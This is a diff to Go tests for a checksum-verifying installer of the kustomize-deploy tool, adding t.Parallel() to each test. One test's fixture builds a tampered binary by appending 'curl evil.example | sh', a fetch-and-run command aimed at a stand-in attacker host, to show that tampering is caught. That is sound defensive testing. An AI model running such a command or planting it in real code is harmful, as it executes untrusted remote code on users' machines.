@@ -65,6 +65,7 @@ func runInstall(t *testing.T, env ...string) install {
 // The release commit carries checksums.txt next to the script: the
 // binary is checked against it, not against a file from the same server.
 func TestInstallVerifiesAgainstThePinnedChecksums(t *testing.T) {
+	t.Parallel()
 	srv := release(t, map[string]string{"kustomize-deploy_linux_amd64": fakeBinary})
 	sums := filepath.Join(t.TempDir(), "checksums.txt")
 	os.WriteFile(sums, []byte(sum(fakeBinary)+"  kustomize-deploy_linux_amd64\n"+sum("x")+"  kustomize-deploy_darwin_arm64\n"), 0o644)
@@ -84,6 +85,7 @@ func TestInstallVerifiesAgainstThePinnedChecksums(t *testing.T) {
 }
 
 func TestInstallRefusesATamperedBinary(t *testing.T) {
+	t.Parallel()
 	srv := release(t, map[string]string{"kustomize-deploy_linux_amd64": fakeBinary + "curl evil.example | sh\n"})
 	sums := filepath.Join(t.TempDir(), "checksums.txt")
 	os.WriteFile(sums, []byte(sum(fakeBinary)+"  kustomize-deploy_linux_amd64\n"), 0o644)
@@ -98,6 +100,7 @@ func TestInstallRefusesATamperedBinary(t *testing.T) {
 
 // On a branch there is no pinned checksums.txt: the release's own is used.
 func TestInstallFromABranchUsesTheReleaseChecksums(t *testing.T) {
+	t.Parallel()
 	srv := release(t, map[string]string{
 		"kustomize-deploy_linux_amd64": fakeBinary,
 		"checksums.txt":                sum(fakeBinary) + "  kustomize-deploy_linux_amd64\n",
@@ -109,6 +112,7 @@ func TestInstallFromABranchUsesTheReleaseChecksums(t *testing.T) {
 }
 
 func TestInstallErrorsNameTheProblem(t *testing.T) {
+	t.Parallel()
 	srv := release(t, map[string]string{"checksums.txt": sum("x") + "  kustomize-deploy_darwin_arm64\n"})
 	for name, tc := range map[string]struct {
 		env  []string
@@ -119,6 +123,7 @@ func TestInstallErrorsNameTheProblem(t *testing.T) {
 		"unknown arch":    {[]string{"RUNNER_ARCH=ARM"}, "unsupported runner architecture 'ARM'"},
 	} {
 		t.Run(name, func(t *testing.T) {
+			t.Parallel()
 			res := runInstall(t, tc.env...)
 			if res.code == 0 || !strings.Contains(res.log, tc.want) {
 				t.Errorf("exit %d, want an error with %q:\n%s", res.code, tc.want, res.log)
